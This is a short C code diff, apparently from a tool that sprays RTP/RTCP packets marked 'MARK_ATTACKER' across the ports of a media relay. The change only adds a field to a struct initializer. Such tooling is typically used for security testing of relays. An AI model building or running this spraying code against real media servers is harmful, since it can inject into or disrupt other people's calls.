@@ -68,7 +68,7 @@ static void spray_one(struct spray *spray)
 		len = rtcp_mark_write(packet, MARK_ATTACKER, spray->count + 1);
 	} else {
 		memset(packet, 0xff, sizeof(packet));
-		rtp_mark_write(packet, 0, (struct rtp_mark){ MARK_ATTACKER, spray->count });
+		rtp_mark_write(packet, 0, (struct rtp_mark){ MARK_ATTACKER, spray->count, 0 });
 	}
 	((struct sockaddr_in *)&spray->relay)->sin_port = htons((uint16_t)spray->at);
 	if (sendto(spray->fd, packet, len, 0, (struct sockaddr *)&spray->relay, spray->relay_len) ==
